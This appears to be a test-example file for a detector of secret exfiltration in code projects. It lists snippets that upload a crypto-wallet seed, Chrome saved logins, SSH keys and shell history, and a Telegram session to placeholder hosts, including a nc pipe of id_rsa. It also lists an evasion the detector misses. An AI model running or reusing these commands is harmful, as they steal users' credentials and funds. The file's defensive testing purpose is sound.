import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Secrets as the content of requests, and keys that only sign them. */
export const examples: Examples = {
  hits: [
    {
      name: "the data of a wallet, uploaded as a form",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const FormData = require("form-data");
const axios = require("axios");
const form = new FormData();
form.append("f", fs.createReadStream(require("os").homedir() + "/.config/Exodus/exodus.wallet/seed.seco"));
axios.post("https://files.example/upload", form);
`,
      },
    },
    {
      name: "passwords of the browser, through a copy",
      files: {
        "main.py": `import os, shutil, requests
shutil.copyfile(os.environ["LOCALAPPDATA"] + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data", "C:\\\\temp\\\\x")
requests.post("https://files.example/", files={"f": open("C:\\\\temp\\\\x", "rb")})
`,
      },
    },
    {
      name: "an archive of keys",
      files: {
        "setup.sh": `tar czf /tmp/a.tgz ~/.ssh ~/.zsh_history
curl -F "f=@/tmp/a.tgz" https://files.example/
`,
      },
    },
    { name: "a private key to a bare address", files: { "setup.sh": "cat ~/.ssh/id_rsa | nc 203.0.113.4 4444\n" } },
    {
      name: "a session of Telegram from PowerShell",
      files: {
        "setup.ps1": `$w = New-Object Net.WebClient
$w.UploadFile("https://files.example/", "$env:APPDATA\\Telegram Desktop\\tdata\\key_datas")
`,
      },
    },
  ],
  misses: [
    {
      name: "a client that signs its requests with what it reads",
      why: "The sign-in belongs to the service that is asked, and signs the request.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const token = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8").split("=")[1];
fetch("https://registry.example/shop", { headers: { Authorization: \`Bearer \${token}\` } });
`,
      },
    },
    {
      name: "a program for a chain that signs with the developer's key",
      why: "The key signs what is sent and stays where it is.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const { Keypair } = require("@solana/web3.js");
const key = Keypair.fromSecretKey(JSON.parse(fs.readFileSync(require("os").homedir() + "/.config/solana/id.json", "utf8")));
fetch("https://rpc.example/", { method: "POST", body: key.publicKey.toString() });
`,
      },
    },
    {
      name: "a public key that is registered",
      why: "A public key is made to be given away.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fetch("https://git.example/keys", { method: "POST", body: fs.readFileSync(require("os").homedir() + "/.ssh/id_ed25519.pub") });
`,
      },
    },
    {
      name: "a fixture of a test",
      why: "The file came along with the project.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fetch("https://files.example/", { method: "POST", body: fs.readFileSync("./test/.ssh/id_rsa") });
`,
        "test/.ssh/id_rsa": "not a key\n",
      },
    },
  ],
  evasions: [
    {
      name: "a path that the server names",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fetch("https://list.example/")
  .then((answer) => answer.json())
  .then(({ path }) => fetch("https://list.example/", { method: "POST", body: fs.readFileSync(path) }));
`,
      },
    },
  ],
};
